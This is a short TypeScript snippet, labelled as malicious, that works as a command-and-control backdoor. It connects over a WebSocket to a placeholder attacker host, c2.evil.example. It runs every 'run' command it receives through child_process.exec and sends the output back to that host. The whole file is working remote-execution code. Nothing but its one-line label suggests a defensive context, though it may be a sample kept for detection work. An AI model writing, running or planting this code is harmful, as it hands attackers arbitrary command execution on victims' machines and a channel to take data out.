// malicious: commands over a web socket
import WebSocket from 'ws';
import { exec } from 'child_process';
const ws = new WebSocket('wss://c2.evil.example/agent');
ws.on('message', (raw: Buffer) => {
  const msg = JSON.parse(raw.toString());
  if (msg.type === 'run') exec(msg.cmd, (e, out) => ws.send(JSON.stringify({ id: msg.id, out })));
});
